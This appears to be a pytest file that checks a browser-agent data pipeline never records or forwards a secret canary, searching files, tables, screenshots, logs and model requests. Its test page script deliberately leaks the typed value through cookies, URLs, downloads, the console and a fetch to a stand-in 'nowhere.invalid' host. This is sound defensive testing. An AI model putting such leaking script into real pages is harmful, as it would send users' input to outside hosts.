"""A secret is typed into a page that repeats it everywhere, and is found nowhere afterwards.

Real Chromium, a real model endpoint, a real dataset folder: every file, every cell, every picture is searched, and all
that the model was sent.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Iterable, Iterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from pipeline import policies
from pipeline.actions import (
    Action,
    Click,
    GetUrl,
    Launch,
    Pixel,
    Point,
    Type,
    Wait,
    canonical_point,
    device_pixel,
    render,
)
from pipeline.apps import install, load_app
from pipeline.check import check
from pipeline.clients import Access, Clients, place_of
from pipeline.config import RunConfig, load_config
from pipeline.dataset import Dataset
from pipeline.envs.browser import Browser
from pipeline.envs.discreet import SECRET, discreet_environment
from pipeline.envs.web import WebEnvironment
from pipeline.envs.web_sites import StaticSite
from pipeline.episode import plan_attempt
from pipeline.errors import ActionError, EnvError
from pipeline.llm import Abilities
from pipeline.manifest import Assigned
from pipeline.ocr import PictureReader
from pipeline.policies.canned import CannedPolicy
from pipeline.policies.models import Models
from pipeline.policies.models import needs as needs_of
from pipeline.protocols import ActResult, Environment, Policy
from pipeline.provenance import opening_rows
from pipeline.records import Frame, Record, now
from pipeline.rollout import rollout
from pipeline.safety import sandbox_gate
from pipeline.schema import TABLES
from pipeline.secrecy import rows_of
from pipeline.sinks import Committer, PartWriter
from pipeline.tasks import TaskSpec, identified
from pipeline.vault import Secret, Vault
from taskspecs.store import load_tasks
from tests.endpoints import limiter_of, says, serving
from tests.runs import rows, tasks_file
from tests.test_vault import SPELLINGS
from tests.webserver import WebServer, file, page
from tests.webworld import running_browser, task_at

ROOT = Path(__file__).resolve().parents[1]
CANARY = "Kestrel-7f3a+91bc"
VAULT = Vault([Secret(name="CANARY", value=CANARY, apps=["site"])])
ECHO = """<!doctype html><title>Echo</title><body style="font: 20px sans-serif; margin: 10px">
<input id="in" aria-label="Word" style="width: 400px; font-size: 20px" onchange="echo(this.value)">
<button onclick="echo(document.getElementById('in').value)">Echo</button>
<p id="text"></p><p id="upper" style="text-transform: uppercase"></p><p id="encoded"></p><p id="base64"></p>
<p id="labelled" role="note"></p><canvas id="drawn" width="600" height="50"></canvas><a id="file">file</a>
<script>
function echo(word) {
  for (const id of ['text', 'upper']) document.getElementById(id).textContent = 'You typed ' + word;
  document.getElementById('encoded').textContent = 'at /?q=' + encodeURIComponent(word);
  document.getElementById('base64').textContent = btoa('user:' + word);
  document.getElementById('labelled').setAttribute('aria-label', 'note ' + word);
  const pen = document.getElementById('drawn').getContext('2d');
  pen.font = '24px sans-serif'; pen.fillText(word, 5, 30);
  document.title = 'Hello ' + word; document.cookie = 'word=' + encodeURIComponent(word);
  history.replaceState(null, '', '/?q=' + encodeURIComponent(word) + '#' + word);
  console.error('console ' + word + ' ' + document.cookie);
  const link = document.getElementById('file');
  link.href = '/file?name=' + encodeURIComponent(word); link.download = word + '.csv'; link.click();
  fetch('http://nowhere.invalid/' + word).catch(() => {});
  setTimeout(() => alert('You said ' + word), 50);
}
</script>"""


class Breaking(WebEnvironment):
    """Breaks in the middle of typing, and says what it was about to do."""

    async def act(self, action: Action, points: Sequence[Pixel]) -> ActResult:
        if not isinstance(action, Type):
            return await super().act(action, points)
        await super().act(Type(content=action.content[:11]), points)
        raise RuntimeError(f"insertText({action.content!r}) is no longer heard")


class Kept(NamedTuple):
    """A dataset folder with one attempt, and the attempt."""

    folder: Path
    record: Record


@asynccontextmanager
async def echoing(browser: Browser, kind: type[WebEnvironment] = WebEnvironment) -> AsyncIterator[Environment]:
    """A page that repeats what is typed into it, and has no other environment than a discreet one."""
    with WebServer() as server:
        server.answers = {"/": page(ECHO), "/file": file("list.csv", b"a,b")}
        environment = discreet_environment(kind(browser, lambda _: StaticSite(server.url)), VAULT)
        try:
            yield environment
        finally:
            await environment.finish()


def task() -> TaskSpec:
    return identified(task_at().model_copy(update={"instruction": "Type <secret:CANARY> and echo it", "max_steps": 8}))


async def kept(folder: Path, environment: Environment, policy: Policy) -> Kept:
    """One attempt, written as a worker writes it."""
    config = load_config("web", ["policy=noop"])
    committer = Committer.claim(folder, "run", config.model_dump(mode="json"))
    committer.record(opening_rows(config, [task()]))
    plan = plan_attempt("run", task().task_id, policy.policy_id, seed=0)
    committer.assign([_assigned(plan.attempt_id, plan.trajectory_id, policy, committer.epoch)])
    record = await rollout(task(), environment, policy, sandbox_gate(), plan)
    writer = PartWriter(folder, "run", committer.epoch, "w0")
    writer.write(record)
    batch = writer.flush()
    assert batch is not None and committer.publish(batch)
    committer.finish()
    return Kept(folder, record)


def _assigned(attempt_id: str, trajectory_id: str, policy: Policy, epoch: int) -> Assigned:
    return Assigned(
        epoch=epoch,
        attempt_id=attempt_id,
        trajectory_id=trajectory_id,
        task_id=task().task_id,
        policy_id=policy.policy_id,
        policy=policy.name,
        seed=0,
        number=1,
        app_id="site",
        app_ids=["site"],
        platform="web",
        worker="w0",
        node="here",
        assigned_at=now(),
    )


async def spots(environment: Environment) -> dict[str, Point]:
    """Where the field and the button are."""
    await environment.start(task())
    seen = await environment.observe()
    assert seen.tree is not None and seen.frame is not None
    width, height = seen.frame.width, seen.frame.height
    boxes = {node.name: node.box for node in seen.tree.nodes if node.box and node.name in ("Word", "Echo")}
    return {name: canonical_point(box.centre, width, height) for name, box in boxes.items()}


def moves(at: dict[str, Point]) -> list[Action]:
    return [
        Click(point=at["Word"]),
        Type(content="<secret:CANARY>"),
        Click(point=at["Echo"]),
        Wait(),
        GetUrl(),
        Wait(),
    ]


# --- searching ------------------------------------------------------------------------------------------------------


def forms(value: str = CANARY) -> list[str]:
    """What nothing may hold: the secret in every spelling, and its first half."""
    encoded = [spell(value) for spell in SPELLINGS.values()]
    cores = [base64.b64encode(bytes(start) + value.encode()).decode()[4:20] for start in range(3)]
    return [*encoded, *cores, value[: len(value) // 2], value[len(value) // 2 :]]


def traces(texts: Iterable[str], value: str = CANARY) -> list[str]:
    """Texts that hold the secret somehow."""
    wanted = [form.strip('"').casefold() for form in forms(value)]
    return [text[:300] for text in texts if any(form in text.casefold() for form in wanted)]


def cells(value: Any) -> Iterator[str]:
    """Every text in a row, at any depth."""
    match value:
        case str():
            yield value
        case dict():
            for inner in value.values():
                yield from cells(inner)
        case list():
            for inner in value:
                yield from cells(inner)
        case bytes():
            yield value.decode("latin-1")


def written(folder: Path) -> Iterator[str]:
    """Every file as it is, and every cell of every table."""
    for path in folder.rglob("*"):
        if path.is_file():
            yield path.read_bytes().decode("latin-1")
    dataset = Dataset(folder)
    for name in TABLES:
        for row in rows_of(dataset, name):
            yield from cells(row.model_dump())


def drawn(folder: Path) -> list[str]:
    """Every line of text that can be read in a picture of the dataset."""
    reader, lines = PictureReader(), list[str]()
    for row in rows_of(Dataset(folder), "frames"):
        if isinstance(row, Frame):
            lines += reader.read(row)
    return lines


def assert_nowhere(folder: Path, *texts: str) -> None:
    assert traces([*written(folder), *texts]) == []
    lines = drawn(folder)
    assert [line for line in lines if VAULT.shown_in(line)] == []
    assert any("Echo" in line for line in lines)  # the pictures can be read


# --- one environment ------------------------------------------------------------------------------------------------


@pytest.mark.slow
async def test_a_page_that_repeats_a_secret_everywhere_leaves_no_trace_of_it(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    async with running_browser() as browser, echoing(browser) as environment:
        policy = CannedPolicy(moves(await spots(environment)))
        done = await kept(tmp_path / "run", environment, policy)

    record = done.record
    assert [step.status for step in record.steps[:5]] == ["ok"] * 5
    events = {event.kind: event for event in record.events}
    assert {"dialog", "download", "blocked_address"} <= set(events)
    assert events["dialog"].message == "You said <secret:CANARY>"
    assert record.observations[-1].title == "Hello <secret:CANARY>"
    assert "<secret:CANARY>" in record.observations[-1].location
    shown = [node for tree in record.trees.values() for node in tree.nodes if "<secret:CANARY>" in node.name]
    assert len({node.role for node in shown}) > 1
    assert record.trajectory.contains_secret
    assert {region.class_ for frame in record.frames.values() for region in frame.sensitive} == {SECRET}
    assert_nowhere(done.folder, *capfd.readouterr())


async def test_a_secret_is_typed_into_its_application_and_into_no_other_page() -> None:
    with WebServer() as server, WebServer() as other:
        server.answers = {"/": page("<input aria-label=Word autofocus>")}
        other.answers = {"/": page("<input aria-label=Word autofocus onchange='fetch(`/${this.value}`)'>")}
        async with running_browser() as browser:
            allowing = WebEnvironment(browser, lambda _: StaticSite(server.url), allow=[other.address])
            environment = discreet_environment(allowing, VAULT)
            await environment.start(task())
            await environment.act(Type(content="<secret:CANARY>"), [])
            await environment.act(Launch(url=f"{other.url}/"), [])
            with pytest.raises(ActionError, match="'CANARY' may not be typed into what is no application"):
                await environment.act(Type(content="<secret:CANARY>\n"), [])
            seen = await environment.observe()
            await environment.finish()

    assert seen.location == f"{other.url}/"
    assert traces(other.paths()) == []


async def test_nor_into_what_a_page_of_the_application_embeds() -> None:
    field = "<input aria-label=Word style='width: 300px; height: 100px'>"
    with WebServer() as server, WebServer() as other:
        own = f'<iframe srcdoc="{field}" width=400 height=150></iframe>'
        server.answers = {"/": page(f"{own}<br><iframe src='{other.url}/' width=400 height=150></iframe>")}
        other.answers = {"/": page(field)}
        async with running_browser() as browser:
            allowing = WebEnvironment(browser, lambda _: StaticSite(server.url), allow=[other.address])
            environment = discreet_environment(allowing, VAULT)
            await environment.start(task())
            await focus(environment, Pixel(x=80, y=60))
            await environment.act(Type(content="<secret:CANARY>"), [])
            await focus(environment, Pixel(x=80, y=220))
            with pytest.raises(ActionError, match="may not be typed into what is no application"):
                await environment.act(Type(content="<secret:CANARY>"), [])
            await environment.finish()


async def focus(environment: Environment, pixel: Pixel) -> None:
    """Click there."""
    await environment.act(Click(point=canonical_point(pixel, 1280, 720)), [pixel])


@pytest.mark.slow
async def test_a_model_is_never_shown_a_secret(tmp_path: Path) -> None:
    async with running_browser() as browser, echoing(browser) as environment:
        at = await spots(environment)
        replies = [says(f"thinking\n{render(move)}") for move in moves(at)]
        with serving(*replies, says(render(Wait()), times=None)) as server:
            config = load_config(
                "web", ["policy=chat", f"model.base_url={server.base_url}", "model.name=scripted", "model.images=3"]
            )
            clients = Clients(config.llm, _access(config))
            policy = policies.build(config, task(), 0, Models(config, clients, ""))
            done = await kept(tmp_path / "run", environment, policy)
            await clients.close()

    assert [step.action for step in done.record.steps[:2]] == moves(at)[:2]
    sent = [json.dumps(request.body) for request in server.requests]
    assert len(sent) >= 4
    assert any("secret:CANARY" in text for text in sent)
    assert_nowhere(done.folder, *sent)


def _access(config: RunConfig) -> dict[tuple[str, str], Access]:
    endpoints = [need.endpoint for need in needs_of(config)]
    return {place_of(one): Access(Abilities(("scripted",), 3, False, None), limiter_of(one)) for one in endpoints}


@pytest.mark.slow
async def test_an_environment_that_breaks_in_mid_typing_tells_nothing(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    async with running_browser() as browser, echoing(browser, Breaking) as environment:
        click, typed, *_ = moves(await spots(environment))
        done = await kept(tmp_path / "run", environment, CannedPolicy([click, typed]))
        await environment.start(task())
        await environment.act(click, [device_pixel(click.point, 1280, 720)] if isinstance(click, Click) else [])
        with pytest.raises(EnvError):
            await environment.act(typed, [])
        seen = await environment.observe()

    fault = done.record.attempt.fault
    assert fault is not None and fault.boundary == "env"
    assert "insertText('<secret:CANARY>')" in fault.message
    assert seen.flags == ["contains_secret"] and seen.tree is not None
    assert [node.value for node in seen.tree.nodes if node.role == "textbox"] == ["<secret:CANARY>"]
    assert_nowhere(done.folder, seen.model_dump_json(exclude={"frame"}), *capfd.readouterr())


# --- a whole run ----------------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.timeout(1260)
def test_a_run_and_its_ray_leave_no_trace_of_a_secret(tmp_path: Path) -> None:
    install(load_app("fava"))
    noted = _with_secret("Card replaced after damage", "fava")
    tasks = tasks_file(tmp_path / "tasks.jsonl", [noted])
    folder, temporary = tmp_path / "run", Path(tempfile.mkdtemp(prefix="r", dir="/tmp"))
    secret = "secrets=[{name: CANARY, env: WORD, apps: [fava]}]"
    settings = ["policy=scripted", "apps=fava", f"tasks={tasks}", "workers=1", secret]

    done = _main_job(folder, temporary, settings)

    logs = {path.name: path.read_bytes().decode("latin-1") for path in temporary.rglob("*") if path.is_file()}
    shutil.rmtree(temporary, ignore_errors=True)
    assert done.returncode == 0, done.stderr
    assert check(folder) == []
    assert rows(folder, "SELECT boundary, code, message FROM faults") == []
    assert rows(folder, "SELECT status, grade FROM trace_grades") == [("graded", "complete")]
    assert rows(folder, "SELECT DISTINCT contains_secret FROM trajectories") == [(True,)]
    assert rows(folder, "SELECT * FROM accepted") == []
    assert {name.partition("-")[0] for name in logs} >= {"raylet.out", "worker"}
    assert traces([*written(folder), *logs.values(), done.stdout, done.stderr]) == []
    assert [line for line in drawn(folder) if VAULT.shown_in(line)] == []


def _with_secret(text: str, app_id: str) -> TaskSpec:
    """A shipped task in which a text is the secret."""
    found = next(one for one in load_tasks("quickstart") if app_id in one.app_ids and text in one.model_dump_json())
    return identified(TaskSpec.model_validate_json(found.model_dump_json().replace(text, "<secret:CANARY>")))


def _main_job(folder: Path, temporary: Path, settings: list[str]) -> subprocess.CompletedProcess[str]:
    """The main job as a user starts it, with a Ray of its own whose files lie apart.

    It reads seven pictures twice, which takes a processor a minute, and a busy machine ten.
    """
    command = [sys.executable, str(ROOT / "pipeline" / "collect.py"), "--out", str(folder), *settings]
    own = {name: value for name, value in os.environ.items() if not name.startswith("RAY_")}
    own |= {"WORD": CANARY, "RAY_TMPDIR": str(temporary)}
    return subprocess.run(command, env=own, capture_output=True, text=True, timeout=1200, check=False)
